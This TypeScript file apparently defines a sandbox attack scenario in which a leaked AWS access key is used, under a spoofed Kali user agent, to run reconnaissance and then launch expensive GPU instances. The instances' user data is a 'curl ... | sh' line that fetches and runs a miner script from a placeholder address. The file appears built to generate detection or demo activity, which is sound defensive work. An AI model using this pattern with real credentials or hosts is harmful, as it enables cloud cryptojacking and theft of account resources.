import { DescribeInstancesCommand, DescribeRegionsCommand, EC2Client, RunInstancesCommand } from '@aws-sdk/client-ec2';
import { GetCallerIdentityCommand, STSClient } from '@aws-sdk/client-sts';
import { TrailboltError } from '../../errors.ts';
import { clientFor, disguise } from './intruder.ts';
import type { Intruder } from './intruder.ts';
import type { PlayableScenario } from './scenario.ts';

/** Downloads and starts a miner, as such user data does. The address belongs to nobody. */
const USER_DATA = '#!/bin/sh\ncurl -fsS http://203.0.113.77/x.sh | sh\n';

export const leakedKeyMinesCoins: PlayableScenario = {
  id: 'leaked-key-mines-coins',
  title: 'A leaked key mines coins',
  story: "Dave's access key got out: somebody looks around with it, hits a quota, and launches graphics machines.",

  async play(aws, { pauseMs }) {
    const intruder: Intruder = {
      credentials: aws.demo.credentials.dave,
      address: '203.0.113.77',
      userAgent: 'Boto3/1.26.72 Python/3.11.2 Linux/6.1.0-kali5-amd64 Botocore/1.29.72',
    };
    const sts = disguise(new STSClient(clientFor(aws, intruder)), intruder);
    const ec2 = disguise(new EC2Client(clientFor(aws, intruder)), intruder);
    const launch = (type: 'p5.48xlarge' | 'p3.8xlarge', least: number, most: number) => () =>
      ec2.send(
        new RunInstancesCommand({
          ImageId: aws.demo.imageId,
          InstanceType: type,
          MinCount: least,
          MaxCount: most,
          UserData: Buffer.from(USER_DATA).toString('base64'),
        }),
      );
    const steps: readonly Step[] = [
      { name: 'GetCallerIdentity', run: () => sts.send(new GetCallerIdentityCommand({})) },
      { name: 'DescribeRegions', run: () => ec2.send(new DescribeRegionsCommand({})) },
      { name: 'DescribeInstances', run: () => ec2.send(new DescribeInstancesCommand({})) },
      // Beyond the quota whatever already runs.
      { name: 'RunInstances', mayFail: 'VcpuLimitExceeded', run: launch('p5.48xlarge', 2, 2) },
      // As many as the quota leaves: none at all only where an earlier playing took them.
      { name: 'RunInstances', mayFail: 'VcpuLimitExceeded', run: launch('p3.8xlarge', 1, 6) },
    ];
    try {
      for (const [index, step] of steps.entries()) {
        if (index > 0) await new Promise((resolve) => setTimeout(resolve, pauseMs));
        await take(step);
      }
    } finally {
      sts.destroy();
      ec2.destroy();
    }
  },
};

interface Step {
  readonly name: string;
  /** Error that belongs to the story. */
  readonly mayFail?: string;
  run(): Promise<unknown>;
}

async function take(step: Step): Promise<void> {
  try {
    await step.run();
  } catch (error) {
    if (error instanceof Error && error.name === step.mayFail) return;
    const reason = error instanceof Error ? error.name : 'an unknown error';
    throw new TrailboltError(
      'sandbox.scenario-stopped',
      `The attack got no further than ${step.name}: the account answered ${reason}.`,
      { cause: error },
    );
  }
}
